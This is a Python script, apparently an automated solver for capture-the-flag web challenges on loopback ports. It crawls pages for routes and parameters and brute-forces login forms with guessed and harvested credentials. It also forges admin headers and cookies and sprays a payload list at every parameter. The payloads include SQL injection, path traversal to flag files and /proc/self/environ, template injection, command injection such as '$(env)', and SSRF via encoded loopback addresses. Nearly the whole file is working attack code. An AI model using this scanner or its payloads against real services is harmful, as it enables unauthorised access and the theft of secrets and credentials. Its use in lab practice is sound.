"""usage: probe.py WORD PORTS PROMPT FILE...: sends the usual wrong requests to HTTP services on loopback; prints every WORD{...} in an answer.

Paths, parameters and names come from the prompt, the files and the pages themselves; what was found is followed."""
import http.client, re, sys, time
from html import unescape
from urllib.parse import quote, urlencode

WORD, PORTS, PROMPT, FILES = sys.argv[1], [int(port) for port in sys.argv[2].split(",")], sys.argv[3], sys.argv[4:]
FLAG = re.compile(re.escape(WORD) + r"\{[^{}\s]{1,100}\}")
END = time.time() + 15
COMMON = ["/", "/robots.txt", "/.git/config", "/.env", "/admin", "/flag", "/flag.txt", "/debug", "/status", "/health", "/config", "/backup", "/login", "/api", "/help", "/secret", "/internal"]
ROUTES = re.compile(r"""(?<![\w.])/[a-z][\w./-]{1,40}""")
found, sent, cookies = set(), set(), {}


def ask(port, method, path, body=None, headers=None):
    key = (port, method, path, body, str(headers))
    if key in sent or time.time() > END:
        return ""
    sent.add(key)
    try:
        link = http.client.HTTPConnection("127.0.0.1", port, timeout=4)
        link.request(method, path, body, {"Content-Type": "application/x-www-form-urlencoded", **({"Cookie": cookies[port]} if port in cookies else {}), **(headers or {})})
        answer = link.getresponse()
        text = answer.read(1 << 18).decode("utf-8", "replace")
        cookie = answer.getheader("Set-Cookie")
        if cookie:
            cookies[port] = cookie.split(";")[0]
        link.close()
    except (OSError, http.client.HTTPException, ValueError):
        return ""
    found.update(FLAG.findall(unescape(text)))
    return text


texts = []
for name in [PROMPT, *FILES]:
    with open(name, encoding="utf-8", errors="ignore") as file:
        texts.append(file.read(1 << 17))
known = "\n".join(texts)
paths = list(dict.fromkeys(COMMON + [path.rstrip(".") for path in ROUTES.findall(known)]))
# NAME=value in an address or a form, and arguments that the source reads.
parameters = list(dict.fromkeys(re.findall(r"[?&]([a-z_]\w*)=", known) + re.findall(r"""(?:get|args|query|form|searchParams\.get)\(?\[?["'](\w+)""", known) + ["q", "id", "name", "file", "path", "url", "page"]))[:14]
secrets = [text for text in dict.fromkeys(re.findall(r"""["'`]([\w./-]{3,40})["'`]""", known)) if "/" not in text][:40]
PAYLOADS = [
    "' OR '1'='1", "' OR 1=1 -- ", "1 OR 1=1", "' UNION SELECT sql FROM sqlite_master -- ", "' UNION SELECT 1,sql FROM sqlite_master -- ", "' UNION SELECT 1,2,sql FROM sqlite_master -- ",
    "../flag", "../flag.txt", "../../flag.txt", "....//....//flag.txt", "..%2fflag.txt", "/proc/self/environ", "file:///proc/self/environ", "../../../../../../proc/self/environ",
    "{{7*7}}", "${7*7}", "{{config}}", "; env", "$(env)", "| env", "`env`", "admin", "*", "%00",
] + [f"http://{host}:{port}{path}" for host in ("127.0.0.1", "localhost", "[::1]", "0.0.0.0", "127.1", "2130706433", "0x7f000001") for port in PORTS for path in ("/flag", "/admin", "/internal")]
for port in PORTS:
    for path in paths:
        page = ask(port, "GET", path)
        for more in re.findall(r"""(?:href|action|src)=["']?(/[^"'\s>]*)""", page) + ROUTES.findall(page):
            if more not in paths and len(paths) < 120:
                paths.append(more)
        for name in re.findall(r"""name=["']?(\w+)""", page):
            if name not in parameters:
                parameters.append(name)
    for path in paths[:60]:
        for headers in ({"X-Forwarded-For": "127.0.0.1"}, {"X-Role": "admin"}, {"Cookie": "role=admin; admin=1; user=admin"}, {"X-Original-URL": "/admin"}):
            ask(port, "GET", path, None, headers)
        for changed in (path + "/", "/" + path, path + "/.", path.replace("/", "/%2e/", 1), path + "%00", path.upper(), path + "?admin=1"):
            ask(port, "GET", changed)
    for user in ["admin", "root", "master", "guest"] + secrets[:10]:
        for word in ["admin", "password", user, "", "' OR '1'='1"] + secrets:
            for path in [path for path in paths if re.search(r"log|sign|auth|session", path)][:3]:
                ask(port, "POST", path, urlencode({"user": user, "username": user, "name": user, "password": word, "pass": word}))
    for path in [path for path in paths if "." not in path][:24]:
        for name in parameters:
            for payload in PAYLOADS:
                ask(port, "GET", f"{path.split('?')[0]}?{name}={quote(payload)}")
    for path in paths[:40]:
        ask(port, "GET", path)
print("\n".join(sorted(found)[:20]))
